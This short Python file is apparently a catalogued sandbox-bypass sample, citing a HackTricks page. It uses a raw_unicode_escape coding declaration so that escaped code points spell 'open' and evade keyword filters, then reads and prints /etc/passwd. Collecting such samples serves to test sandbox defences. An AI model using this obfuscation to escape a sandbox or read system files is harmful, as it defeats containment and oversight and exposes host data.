# coding: raw_unicode_escape
# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (raw_unicode_escape)
# Family: source-encoding
# What: raw_unicode_escape cookie spells the name open with escaped code points outside any string
data = \u006f\u0070\u0065\u006e("/etc/passwd").read()
print(data)
